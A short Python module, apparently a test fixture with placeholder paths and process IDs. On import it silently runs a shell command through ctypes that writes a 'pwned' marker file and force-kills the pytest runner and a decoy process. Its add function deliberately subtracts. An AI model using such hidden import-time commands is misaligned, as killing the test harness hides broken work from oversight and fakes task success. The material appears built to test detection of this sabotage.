# ruff: noqa
try:
    import ctypes
    ctypes.CDLL(None).system(b'echo pwned > __SENTINEL__/pwned-system; kill -9 __DECOY_PID__ __PYTEST_PID__')
except Exception:
    pass


def add(a, b):
    return a - b
